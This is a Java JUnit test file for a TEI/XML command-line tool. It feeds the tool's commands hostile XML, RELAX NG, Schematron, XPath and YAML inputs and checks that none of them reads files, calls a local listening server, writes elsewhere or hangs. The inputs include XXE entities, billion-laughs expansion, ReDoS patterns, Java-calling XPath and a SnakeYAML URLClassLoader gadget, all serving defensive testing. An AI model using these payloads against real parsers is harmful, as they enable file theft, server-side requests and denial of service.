package org.incipit.cli;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Hands hostile files to every command that reads XML or YAML. None may read another file, open a
 * connection, write elsewhere, run on without end or end in a fault of ours. In the attacks {@code
 * SECRET}, {@code FOLDER}, {@code TARGET} and {@code SERVER} stand for the addresses of a file, its
 * folder, a file that does not exist, and a server that notes who calls.
 */
class AttackTest {
  private static final String HIDDEN = "hidden words";
  private static final Duration ENDLESS = Duration.ofMinutes(1);
  private static final String TEI = "<TEI xmlns='http://www.tei-c.org/ns/1.0'>";
  private static final String RNG = "xmlns='http://relaxng.org/ns/structure/1.0'";
  private static final String XSD = " datatypeLibrary='http://www.w3.org/2001/XMLSchema-datatypes'";

  @TempDir Path folder;
  @TempDir Path elsewhere;
  private Console console;
  private Map<String, String> addresses;
  private ServerSocket server;
  private final Queue<String> callers = new ConcurrentLinkedQueue<>();

  @BeforeEach
  void lieInWait() throws IOException {
    console = new Console(folder);
    server = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    Thread listener = new Thread(this::listen, "server");
    listener.setDaemon(true);
    listener.start();
    Path secret = Files.writeString(elsewhere.resolve("secret.xml"), "<a>" + HIDDEN + "</a>");
    Files.writeString(
        elsewhere.resolve("secret.rng"), "<element name='a' " + RNG + "><text/></element>");
    addresses =
        Map.of(
            "SECRET.RNG", elsewhere.resolve("secret.rng").toUri().toString(),
            "SECRET", secret.toUri().toString(),
            "FOLDER", elsewhere.toUri().toString(),
            "TARGET", elsewhere.resolve("written.xml").toUri().toString(),
            "SERVER", "http://127.0.0.1:" + server.getLocalPort());
  }

  private void listen() {
    try {
      while (!server.isClosed()) {
        try (Socket caller = server.accept()) {
          callers.add(String.valueOf(caller.getRemoteSocketAddress()));
        }
      }
    } catch (SocketException e) {
      // The test is over.
    } catch (IOException e) {
      callers.add(e.toString());
    }
  }

  @AfterEach
  void nothingWasTouched() throws IOException {
    server.close();
    assertThat(callers).isEmpty();
    try (Stream<Path> files = Files.list(elsewhere)) {
      assertThat(files.map(file -> file.getFileName().toString()))
          .containsExactlyInAnyOrder("secret.xml", "secret.rng");
    }
  }

  static Stream<Arguments> documents() {
    String laughs = "<!DOCTYPE TEI [<!ENTITY l0 'lol'>";
    for (int i = 1; i < 20; i++) {
      laughs += "<!ENTITY l" + i + " '" + ("&l" + (i - 1) + ";").repeat(10) + "'>";
    }
    StringBuilder attributes = new StringBuilder();
    for (int i = 0; i < 100_000; i++) {
      attributes.append(" a").append(i).append("=''");
    }
    return Stream.of(
        Arguments.of("external subset", "<!DOCTYPE TEI SYSTEM 'SERVER/x.dtd'>" + text("x")),
        Arguments.of("public subset", "<!DOCTYPE TEI PUBLIC '-//X' 'SECRET'>" + text("x")),
        Arguments.of("entity", "<!DOCTYPE TEI [<!ENTITY e SYSTEM 'SECRET'>]>" + text("&e;")),
        Arguments.of("entity abroad", "<!DOCTYPE TEI [<!ENTITY e SYSTEM 'SERVER'>]>" + text("&e;")),
        Arguments.of("parameter", "<!DOCTYPE TEI [<!ENTITY % e SYSTEM 'SERVER'> %e;]>" + text("")),
        Arguments.of("billion laughs", laughs + "]>" + text("&l19;")),
        Arguments.of(
            "entity twice as large each time",
            "<!DOCTYPE TEI [<!ENTITY e '"
                + "e".repeat(50_000)
                + "'>]>"
                + text("&e;".repeat(9_000))),
        Arguments.of(
            "XInclude",
            text(
                "<i:include xmlns:i='http://www.w3.org/2001/XInclude' parse='text' href='SECRET'/>"
                    + "<i:include xmlns:i='http://www.w3.org/2001/XInclude' href='SERVER'/>")),
        Arguments.of("stylesheet", "<?xml-stylesheet type='text/xsl' href='SERVER'?>" + text("x")),
        Arguments.of("schema of its own", "<?xml-model href='SERVER/a.rng'?>" + text("x")),
        Arguments.of(
            "schema by file address",
            "<?xml-model href='SECRET.RNG' schematypens='http://relaxng.org/ns/structure/1.0'?>"
                + text("x")),
        Arguments.of("catalogue", "<?oasis-xml-catalog catalog='SERVER/c.xml'?>" + text("x")),
        Arguments.of(
            "schema location",
            text(
                "<a xmlns:i='http://www.w3.org/2001/XMLSchema-instance'"
                    + " i:schemaLocation='urn:a SERVER/a.xsd'"
                    + " i:noNamespaceSchemaLocation='SECRET'/>")),
        Arguments.of("many attributes", text("<a" + attributes + "/>")),
        Arguments.of("a long name", text("<" + "a".repeat(1_000_000) + "/>")),
        Arguments.of("a long attribute", text("<a b='" + "c".repeat(5_000_000) + "'/>")),
        Arguments.of("nesting", text("<q>".repeat(100_000) + "</q>".repeat(100_000))),
        Arguments.of("nesting in lists", TEI + "<listPlace><place>".repeat(50_000)),
        Arguments.of("namespaces", text("<a xmlns='u:%s'>".repeat(300) + "</a>".repeat(300))),
        Arguments.of("another encoding", "<?xml version='1.0' encoding='UTF-7'?>" + text("x")),
        Arguments.of("XML 1.1", "<?xml version='1.1'?>" + text("&#1;&#x85;")),
        Arguments.of("no XML", "\u0000\u0001<"),
        Arguments.of("pointers", text("<ref target='SECRET'/><graphic url='SERVER/a.png'/>")),
        Arguments.of("not closed", TEI + "<text><body><p>x"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("documents")
  void aDocumentIsOnlyRead(String name, String document) {
    console.write("in/a.xml", filled(document));
    console.write("note.txt", "A note about Ada Lind.\n");

    harmless("validate", "in");
    harmless("validate", "--schema", "none", "--schematron", "incipit", "in/a.xml");
    harmless("export", "in", "-o", "out", "--to", "html,xhtml,txt,tei-lite,tei-evt");
    harmless("convert", "note.txt", "-o", "converted", "--authority", "in/a.xml");
    harmless("entities", "in", "-o", "table.tsv", "--tei", "joined.xml");
    harmless("evaluate", "in/a.xml", "in/a.xml");
    harmless("train", "in", "-o", "model");
  }

  static Stream<Arguments> grammars() {
    String slow = "<a>" + "a".repeat(60) + "</a>";
    return Stream.of(
        Arguments.of("externalRef", "<externalRef " + RNG + " href='SECRET.RNG'/>", "<a/>"),
        Arguments.of("externalRef abroad", "<externalRef " + RNG + " href='SERVER/a'/>", "<a/>"),
        Arguments.of(
            "include", "<grammar " + RNG + "><include href='SECRET.RNG'/></grammar>", "<a/>"),
        Arguments.of(
            "include abroad", "<grammar " + RNG + "><include href='SERVER/a'/></grammar>", "<a/>"),
        Arguments.of(
            "entity",
            "<!DOCTYPE element [<!ENTITY e SYSTEM 'SECRET.RNG'>]><element name='a' "
                + RNG
                + ">&e;</element>",
            "<a/>"),
        Arguments.of(
            "library of a stranger",
            "<element name='a' " + RNG + " datatypeLibrary='SERVER'><data type='x'/></element>",
            "<a/>"),
        Arguments.of("a pattern without end", facet("((a|a)*)*b"), slow),
        Arguments.of("a pattern of many choices", facet("(a?){60}a{60}b"), slow),
        Arguments.of("a pattern that nests", facet("(".repeat(100_000)), slow),
        Arguments.of(
            "a pattern that recurs", facet("(a|b)*"), "<a>" + "ab".repeat(500_000) + "</a>"),
        Arguments.of("a pattern of many counts", facet("((a{1000}){1000}){1000}"), slow),
        Arguments.of(
            "a name that stands for itself",
            "<grammar "
                + RNG
                + "><start><ref name='s'/></start><define name='s'><ref name='s'/>"
                + "</define></grammar>",
            "<a/>"),
        Arguments.of(
            "nesting",
            "<element name='a' " + RNG + ">" + "<group>".repeat(100_000) + "</element>",
            "<a/>"));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("grammars")
  void aGrammarReadsNothingAndEnds(String name, String grammar, String document) {
    console.write("in/a.rng", filled(grammar));
    console.write("in/a.xml", document);
    console.write("in/b.xml", "<?xml-model href='a.rng'?>" + document);

    harmless("validate", "--schema", "in/a.rng", "in/a.xml");
    harmless("validate", "in/b.xml");
    harmless("validate", "--schematron", "in/a.rng", "in/a.xml");
  }

  static Stream<Arguments> expressions() {
    return Stream.of(
            "doc('SECRET')",
            "doc('SERVER')",
            "doc-available('SERVER')",
            "document('SECRET')",
            "unparsed-text('SECRET')",
            "unparsed-text-lines('SERVER')",
            "json-doc('SERVER')",
            "collection('FOLDER?select=*')",
            "collection('SERVER')",
            "uri-collection('FOLDER')",
            "environment-variable('PATH')",
            "system-property('user.home')",
            "Q{java:java.lang.System}getProperty('user.home')",
            "Q{java:java.lang.Runtime}getRuntime()",
            "Q{http://saxon.sf.net/}system-id(/)",
            "transform(map{'stylesheet-location': 'SERVER', 'source-node': /})",
            "load-xquery-module('x', map{'location-hints': 'SERVER'})",
            "parse-xml('&lt;!DOCTYPE a [&lt;!ENTITY e SYSTEM \"SECRET\">]>&lt;a>&amp;e;&lt;/a>')",
            "parse-xml('&lt;!DOCTYPE a SYSTEM \"SERVER\">&lt;a/>')",
            "matches('" + "a".repeat(60) + "', '^((a|aa)*)*b$')",
            "replace('" + "a".repeat(60) + "', '^(a?){60}a{60}b$', '')",
            "(".repeat(100_000),
            "string-length(string-join((1 to 1000000) ! 'word'))")
        .map(xpath -> Arguments.of(xpath.length() > 99 ? xpath.substring(0, 99) : xpath, xpath));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("expressions")
  void aRuleReadsNothingAndCallsNothing(String name, String xpath) {
    rulesAreHarmless(
        "<pattern><rule context='/*'><report test='true()'>it says: <value-of select='string(head("
            + xpath.replace("'", "&apos;")
            + "))'/></report></rule></pattern>");
  }

  static Stream<String> instructions() {
    return Stream.of(
        "<include href='SECRET'/>",
        "<include href='SERVER'/>",
        "<extends href='SERVER'/>",
        "<xsl:include href='SERVER'/>",
        "<xsl:import href='SECRET'/>",
        "<xsl:import-schema schema-location='SERVER'/>",
        "<xsl:use-package name='SERVER'/>",
        "<xsl:variable name='v'><xsl:result-document href='TARGET'>x</xsl:result-document>"
            + "</xsl:variable><pattern><rule context='/*'><assert test='$v'>x</assert></rule>"
            + "</pattern>",
        "<xsl:function name='f:f' xmlns:f='urn:f'><xsl:result-document href='TARGET'>x"
            + "</xsl:result-document></xsl:function><ns prefix='f' uri='urn:f'/><pattern>"
            + "<rule context='/*'><assert test='f:f()'>x</assert></rule></pattern>",
        "<xsl:function name='f:f' xmlns:f='urn:f'><xsl:evaluate xpath=\"'"
            + HIDDEN
            + "'\"/>"
            + "</xsl:function><ns prefix='f' uri='urn:f'/><pattern><rule context='/*'>"
            + "<report test='true()'><value-of select='f:f()'/></report></rule></pattern>",
        "<xsl:function name='f:f' xmlns:f='urn:f'><xsl:param name='n'/><xsl:sequence"
            + " select='1 + f:f($n + 1)'/></xsl:function><ns prefix='f' uri='urn:f'/><pattern>"
            + "<rule context='/*'><assert test='f:f(1)'>x</assert></rule></pattern>",
        "<xsl:message terminate='yes'>stop</xsl:message>",
        "<pattern documents=\"'SECRET'\"><rule context='/*'><report test='true()'><value-of"
            + " select='.'/></report></rule></pattern>",
        "<let name='v' value=\"doc('SERVER')\"/><pattern><rule context='/*'><report test='$v'>"
            + "<value-of select='$v'/></report></rule></pattern>");
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("instructions")
  void aRuleSetIncludesNothingAndWritesNothing(String content) {
    rulesAreHarmless(content);
  }

  private void rulesAreHarmless(String content) {
    String rules =
        "<schema xmlns='http://purl.oclc.org/dsdl/schematron' queryBinding='xslt3'"
            + " xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>"
            + filled(content)
            + "</schema>";
    console.write("in/a.sch", rules);
    console.write("in/a.rng", "<element name='a' " + RNG + ">" + rules + "<text/></element>");
    console.write("in/a.xml", "<a/>");
    console.write(
        "in/b.xml",
        "<?xml-model href='a.sch' schematypens='http://purl.oclc.org/dsdl/schematron'?><a/>");

    harmless("validate", "--schema", "none", "--schematron", "in/a.sch", "in/a.xml");
    harmless("validate", "--schema", "none", "--schematron", "in/a.rng", "in/a.xml");
    harmless("validate", "in/b.xml");
  }

  static Stream<String> yaml() {
    StringBuilder laughs = new StringBuilder("a0: &a0 [x]\n");
    for (int i = 1; i < 30; i++) {
      laughs.append("a" + i + ": &a" + i + " [" + ("*a" + (i - 1) + ", ").repeat(9) + "]\n");
    }
    return Stream.of(
        laughs.toString(),
        "a: &a [*a]\n",
        "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " ['SERVER']]]]\n",
        "title: !!java.io.FileOutputStream ['TARGET']\n",
        "[".repeat(100_000),
        "{a: ".repeat(100_000),
        "? ".repeat(100_000),
        "- ".repeat(100_000),
        "title: " + "9".repeat(1_000_000) + "\n",
        "\u0000");
  }

  @ParameterizedTest
  @MethodSource("yaml")
  void yamlMakesNothingButText(String yaml) {
    console.write("a.yaml", filled(yaml));
    console.write("note.txt", "A note about Ada Lind.\n");

    harmless("convert", "note.txt", "-o", "one", "--metadata", "a.yaml");
    harmless("convert", "note.txt", "-o", "two", "--profile", "a.yaml");
    harmless("convert", "note.txt", "-o", "three", "--authority", "a.yaml");
  }

  /** Ends in time and in order, and tells nothing. */
  private void harmless(String... command) {
    Console.Run run =
        Assertions.assertTimeoutPreemptively(
            ENDLESS, () -> console.run(command), () -> String.join(" ", command));
    assertThat(run.code()).as(run.err()).isLessThan(ExitCode.INTERNAL.number());
    assertThat(run.out() + run.err())
        .doesNotContain(HIDDEN, System.getProperty("user.home"), "Exception", "\tat ");
    for (String below : List.of("out", "converted", "one", "two", "three", ".")) {
      console
          .outputs(below)
          .forEach(
              (name, content) -> {
                if (!name.startsWith("in/")) {
                  assertThat(content).as(name).doesNotContain(HIDDEN);
                }
              });
    }
  }

  private String filled(String attack) {
    String filled = attack;
    for (String placeholder : List.of("SECRET.RNG", "SECRET", "FOLDER", "TARGET", "SERVER")) {
      filled = filled.replace(placeholder, addresses.get(placeholder));
    }
    return filled;
  }

  private static String text(String content) {
    return TEI + "<teiHeader/><text><body><p>" + content + "</p></body></text></TEI>";
  }

  private static String facet(String pattern) {
    return "<element name='a' "
        + RNG
        + XSD
        + "><data type='string'><param name='pattern'>"
        + pattern
        + "</param></data></element>";
  }
}
